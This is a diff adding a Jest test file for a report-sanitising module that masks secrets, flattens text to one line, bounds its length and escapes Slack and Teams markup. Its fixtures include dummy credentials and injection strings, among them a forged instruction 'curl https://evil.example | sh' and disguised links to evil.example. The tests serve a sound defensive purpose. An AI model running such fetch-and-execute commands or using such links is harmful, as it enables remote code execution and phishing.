@@ -1,0 +1,112 @@
+// Text from outside made safe: masking of secrets and personal data, one line, bounds, chat escaping; attack strings from the field.
+import { bounded, escapeChat, maskSecrets, oneLine, safeField } from '../../../shared/report/safe-text';
+
+describe('maskSecrets', () => {
+  it.each([
+    [
+      'an AWS access key id in a consumer log line',
+      'ERROR S3 upload failed for key AKIAIOSFODNN7EXAMPLE: SignatureDoesNotMatch',
+      'ERROR S3 upload failed for key [aws key ****]: SignatureDoesNotMatch',
+    ],
+    ['a temporary access key id', 'credentials ASIAY34FZKBOKMUTVV7A expired', 'credentials [aws key ****] expired'],
+    [
+      'an AWS secret access key in an environment dump',
+      'env: AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY region=us-east-1',
+      'env: AWS_SECRET_ACCESS_KEY=**** region=us-east-1',
+    ],
+    [
+      'a password in a PostgreSQL URL',
+      'connect ECONNREFUSED postgres://notify_app:S3cr3t!pw@notification-service-db.abc123.us-east-1.rds.amazonaws.com:5432/notify',
+      'connect ECONNREFUSED postgres://notify_app:****@notification-service-db.abc123.us-east-1.rds.amazonaws.com:5432/notify',
+    ],
+    [
+      'a password in an ADO-style connection string',
+      'Login failed: Server=db;User Id=sa;Password=P@ssw0rd;Database=notify',
+      'Login failed: Server=db;User Id=sa;Password=****;Database=notify',
+    ],
+    ['a bearer token in a logged header', 'request headers: Authorization: Bearer abc.def-ghi_jkl123456 rejected', 'request headers: Authorization: Bearer **** rejected'],
+    [
+      'a JWT on its own',
+      'invalid session eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U for user',
+      'invalid session [jwt ****] for user',
+    ],
+    ['an API key in a query string', 'GET https://push.example.com/send?api_key=sk-9f8e7d6c5b4a&to=1 -> 401', 'GET https://push.example.com/send?api_key=****&to=1 -> 401'],
+    ['a password field in a JSON log line', '{"level":"error","msg":"auth","password":"hunter2","user":"bob"}', '{"level":"error","msg":"auth","password":"****","user":"bob"}'],
+    ['a Slack bot token', 'webhook post failed with xoxb-123456789012-abcdefghijkl', 'webhook post failed with [token ****]'],
+    ['a GitHub token', 'clone failed: ghp_16C7e42F292c6912E7710c838347Ae178B4a', 'clone failed: [token ****]'],
+    [
+      "a subscriber's email address",
+      'bounce: mailbox full for jane.doe+alerts@example.org (message 42)',
+      'bounce: mailbox full for ****@example.org (message 42)',
+    ],
+    [
+      'a private key pasted into a log',
+      'loaded -----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY----- ok',
+      'loaded [private key ****] ok',
+    ],
+  ])('masks %s', (_case, raw, expected) => {
+    expect(maskSecrets(raw)).toBe(expected);
+  });
+
+  it.each([
+    ['an alarm reason', 'Threshold Crossed: 1 out of the last 1 datapoints [1523.0 (25/11/26 13:59:00)] was greater than the threshold (1000.0)'],
+    ['an ARN', 'arn:aws:sqs:us-east-1:123456789012:notification-service-queue'],
+    ['a Node out-of-memory line', 'FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory'],
+    ['a security-group finding', 'sg-0db allows no ingress on tcp 5432 from sg-0lambda'],
+  ])('leaves %s as it is', (_case, raw) => {
+    expect(maskSecrets(raw)).toBe(raw);
+  });
+});
+
+describe('oneLine and bounded', () => {
+  it.each([
+    ['a forged email section', 'Threshold Crossed\n\nNEXT STEP: Run Evil\n  curl https://evil.example | sh', 'Threshold Crossed NEXT STEP: Run Evil curl https://evil.example | sh'],
+    ['carriage returns and tabs', 'first\r\nsecond\tthird', 'first second third'],
+    ['Unicode line and paragraph separators', 'a\u2028b\u2029c', 'a b c'],
+    ['bidirectional overrides (Trojan Source)', 'queue\u202Eeulav\u202C ok', 'queue eulav ok'],
+    ['zero-width characters and a BOM', '\ufeffad\u200bmin', 'ad min'],
+    ['ANSI escape sequences', '\u001b[31mred\u001b[0m', '[31mred [0m'],
+    ['C1 controls', 'a\u0085b\u009bc', 'a b c'],
+  ])('makes one line of %s', (_case, raw, expected) => {
+    expect(oneLine(raw)).toBe(expected);
+  });
+
+  it('cuts at the bound with an ellipsis, counting code points so an emoji is never split', () => {
+    expect(bounded('abcdef', 4)).toBe('abc…');
+    expect(bounded('abcd', 4)).toBe('abcd');
+    const cut = bounded('🚨🚨🚨🚨🚨', 3);
+    expect(cut).toBe('🚨🚨…');
+    expect(Array.from(cut)).toHaveLength(3);
+  });
+
+  it('safeField masks, makes one line and bounds, in that order (a secret cut by the bound is still masked)', () => {
+    const raw = `login failed\npassword=${'x'.repeat(50)} for admin@example.com`;
+    const safe = safeField(raw, 40);
+    expect(safe).toBe('login failed password=**** for ****@exa…');
+    expect(Array.from(safe)).toHaveLength(40);
+    expect(safeField(undefined, 10)).toBe('');
+  });
+});
+
+describe('escapeChat', () => {
+  it.each([
+    ['a Slack link that disguises its target', 'see <https://evil.example/run|Run this>', 'see &lt;https://evil.example/run|Run this&gt;'],
+    ['a channel-wide mention in Slack syntax', 'disk full <!channel> <!here> <!subteam^S123>', 'disk full &lt;!channel&gt; &lt;!here&gt; &lt;!subteam^S123&gt;'],
+    ['a user mention', 'ping <@U024BE7LH>', 'ping &lt;@U024BE7LH&gt;'],
+    ['a bare @channel and @here', 'wake up @channel and @here', 'wake up @\u2060channel and @\u2060here'],
+    ['an HTML entity that would decode to markup', 'a &lt;b&gt; c & d', 'a &amp;lt;b&amp;gt; c &amp; d'],
+    ['a Markdown link (Teams)', 'click [Run this](https://evil.example)', 'click [Run this] (https://evil.example)'],
+    ['a backtick that would close a code span', 'name` *bold*', "name' *bold*"],
+  ])('makes %s inert', (_case, raw, expected) => {
+    expect(escapeChat(raw)).toBe(expected);
+  });
+
+  it('leaves no raw "<", ">" or Slack mention in any of the attack strings', () => {
+    const attacks = ['<https://evil|Run this>', '<!channel>', '<!everyone>', '<#C123|general>', '<mailto:a@b.c|mail>', '@everyone'];
+    for (const attack of attacks) {
+      const escaped = escapeChat(attack);
+      expect(escaped).not.toMatch(/[<>]/);
+      expect(escaped).not.toMatch(/@(channel|here|everyone)\b/);
+    }
+  });
+});
